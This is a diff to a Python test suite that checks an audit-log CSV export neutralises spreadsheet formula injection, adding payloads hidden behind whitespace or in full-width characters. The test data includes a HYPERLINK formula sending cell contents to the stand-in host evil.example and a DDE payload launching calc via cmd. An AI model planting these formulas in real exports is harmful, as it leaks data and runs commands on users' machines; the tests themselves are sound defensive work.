@@ -13,6 +13,9 @@ from tests.helpers.clients import signed_in
 from tools import verify_audit_export as verifier
 
 ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+# Formulas behind spaces or a line break that an import may trim, and in full-width forms.
+DISGUISED = (" " + ATTACK, "\n" + ATTACK, " \u3000@SUM(1+1)", "\uff1dHYPERLINK(\"x\")",
+             "\uff0b1", "\uff0d1", "\uff20SUM(1)")
 
 
 def export(owner, fmt="csv"):
@@ -33,6 +36,10 @@ def crafted(acme, owner, alpha, bot):
            target=bot, changes={"name": [None, "-2+3"]})
     record("project.updated", organization=acme, project=alpha,
            target=alpha, changes={"name": ["'quoted", "\tTabbed"]})
+    for disguised in DISGUISED:
+        with acting_as(attacker) as context:
+            context.user_agent = disguised
+            record("user.login_failed", organization=acme, target=owner)
 
 
 def spreadsheet_cells(body: str):
@@ -44,6 +51,7 @@ def test_no_cell_of_the_csv_would_be_evaluated(owner, crafted):
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert "'" + ATTACK in cells
     assert "'+cmd|' /C calc'!A0" in cells
+    assert {"'" + disguised for disguised in DISGUISED} <= set(cells)
 
 
 def test_the_neutralised_csv_verifies_and_reads_back_the_recorded_values(
@@ -56,6 +64,7 @@ def test_the_neutralised_csv_verifies_and_reads_back_the_recorded_values(
     assert verifier.main([str(path)]) == 0
     assert ATTACK in {event["user_agent"] for event in events}
     assert "+cmd|' /C calc'!A0" in {event["actor_label"] for event in events}
+    assert set(DISGUISED) <= {event["user_agent"] for event in events}
 
 
 def test_ndjson_stays_as_recorded(owner, crafted):
@@ -66,6 +75,11 @@ def test_ndjson_stays_as_recorded(owner, crafted):
 @pytest.mark.parametrize("first", FORMULA_TRIGGERS)
 def test_each_trigger_gets_one_apostrophe(first):
     assert neutralised(first + "x") == "'" + first + "x"
+
+
+@pytest.mark.parametrize("disguised", DISGUISED)
+def test_a_formula_behind_spaces_or_in_full_width_gets_one_apostrophe(disguised):
+    assert neutralised(disguised) == "'" + disguised
 
 
 def test_other_cells_are_left_alone():
